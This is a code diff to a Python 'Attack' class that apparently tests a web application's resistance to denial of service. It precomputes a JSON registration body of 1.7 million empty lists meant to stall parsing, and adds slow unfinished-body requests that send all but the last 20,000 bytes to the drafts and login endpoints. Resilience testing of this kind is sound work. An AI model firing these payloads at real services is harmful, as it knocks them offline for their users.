@@ -29,6 +29,11 @@ MARKS = 15_000  # of each of two kinds: normalising them costs the square of the
 EMPTY_LISTS = 1_700_000  # 5.1 MB
 JUNK = 900_000  # characters; the framework itself reads a million
 
+# Made once: the attacker's own work takes processor from the product here, which it would not elsewhere.
+_LISTS = b'{"email":[' + b"[]," * EMPTY_LISTS + b"[]]}"
+_UNFINISHED = {"/api/drafts": b" " * 4_980_000, "/api/auth/login": b" " * 45_000}
+_MISSING = 20_000  # bytes of each that never come
+
 _NETWORK = "2001:db8:bad:1::"  # documentation addresses (RFC 3849)
 _STATES = "reflex___state____state.voice_report___ui___access____access_state."
 _GREET = f"{_STATES}voice_report___ui___session____session_state.greet"
@@ -85,12 +90,11 @@ class Attack:
 
     async def empty_lists(self) -> None:
         """Register with very many empty lists as the address: parsing them blocks everybody else."""
-        body = b'{"email":[' + b"[]," * EMPTY_LISTS + b"[]]}"
         headers = {"Content-Type": "application/json"}
         async with self._client() as client:
             for path in ("/api/auth/register", "/api/drafts"):
                 for cookie in ("", self.cookie):
-                    await client.post(path, content=body, headers={**headers, "Cookie": cookie})
+                    await client.post(path, content=_LISTS, headers={**headers, "Cookie": cookie})
 
     async def attachments(self) -> None:
         """Announce ten thousand million attachments, and send a few."""
@@ -149,10 +153,10 @@ class Attack:
 
     async def unfinished_body(self) -> None:
         """Send all but the end of a body, as large as a transcript and as a sign-in may be, and then nothing."""
-        for path, size in (("/api/drafts", 5_000_000), ("/api/auth/login", 65_000)):
-            reader, writer = await self._begin(path, size)
+        for path, body in _UNFINISHED.items():
+            reader, writer = await self._begin(path, len(body) + _MISSING)
             try:
-                writer.write(b" " * (size - 20_000))
+                writer.write(body)
                 await writer.drain()
                 async with asyncio.timeout(10):
                     await reader.read()
